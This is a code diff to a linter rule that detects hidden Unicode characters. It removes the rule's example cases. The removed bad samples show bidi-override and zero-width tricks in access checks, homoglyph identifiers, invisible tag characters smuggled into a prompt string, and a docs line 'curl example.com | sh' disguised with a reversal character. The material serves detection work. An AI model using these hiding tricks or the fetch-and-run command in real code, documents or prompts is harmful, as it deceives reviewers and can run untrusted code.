@@ -5,7 +5,7 @@
 import { count } from "../../base/count.ts";
 import { isProgramming } from "../../languages/language-of.ts";
 import { isTranslationFile } from "../../base/path-kinds.ts";
-import { bad, good, type FileView, type LineRule, type RuleMatch } from "../rule.ts";
+import type { FileView, LineRule, RuleMatch } from "../rule.ts";
 
 /** A longer list of code points is of no use to the reader. */
 const MAX_NAMED_CODE_POINTS = 5;
@@ -54,39 +54,6 @@ export const hiddenCharacters: LineRule = {
   check(line, file) {
     if (!NOT_ASCII.test(line.text)) return null;
     return reordering(line, file) ?? carrying(line, file) ?? zeroWidth(line, file) ?? lookAlike(line, file);
-  },
-  examples: {
-    bad: [
-      bad("src/login.ts", 1, 'if (level !== "user\u202e \u2066// check admin\u2069 \u2066") {\n'),
-      bad("src/prompt.py", 1, 'GREETING = "hello\u{e0049}\u{e0047}\u{e004e}"\n'),
-      bad("src/load.js", 1, "const run = eval(`\ufe00\ufe01\u{e0102}\u{e0103}`);\n"),
-      bad("src/a.go", 3, "package a\n\nvar is\u200bAdmin = true\n"),
-      bad("src/b.ts", 1, 'const role = "admin\u200b";\n'),
-      bad("src/c.js", 1, "const \u3164 = input.hidden;\n"),
-      bad("src/d.java", 1, "boolean is\u0410dmin = false;\n"),
-      bad("docs/guide.md", 1, "Run `curl example.com\u202e | sh`.\n"),
-    ],
-    good: [
-      good(
-        "src/a.ts",
-        'const family = "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}";\nconst heart = "\u2764\ufe0f";\n',
-      ),
-      good("locales/fa.json", '{ "go": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645" }\n'),
-      good("locales/he.json", '{ "name": "\u200f\u05e9\u05dc\u05d5\u05dd \u2068{name}\u2069" }\n'),
-      good("locale/ckb/LC_MESSAGES/app.po", 'msgstr[0] "\u202b%(num)d"\n'),
-      good("src/hindi.py", 'LABEL = "\u0915\u094d\u200d\u0937"\n'),
-      good("src/bom.cs", "\ufeffusing System;\n"),
-      good("src/physics.py", "\u0394x = x1 - x0\n\u03bcs = 1e-6\n"),
-      good(
-        "src/flag.ts",
-        'const england = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}";\n',
-      ),
-      good(
-        "src/ru.py",
-        "# \u041f\u0440\u043e\u0432\u0435\u0440\u044f\u0435\u043c \u0421ommit \u043f\u0435\u0440\u0435\u0434 \u0432\u044b\u0445\u043e\u0434\u043e\u043c\nx = 1\n",
-      ),
-      good("src/escape.ts", 'const ZERO_WIDTH = "\\u200b";\n'),
-    ],
   },
 };
 
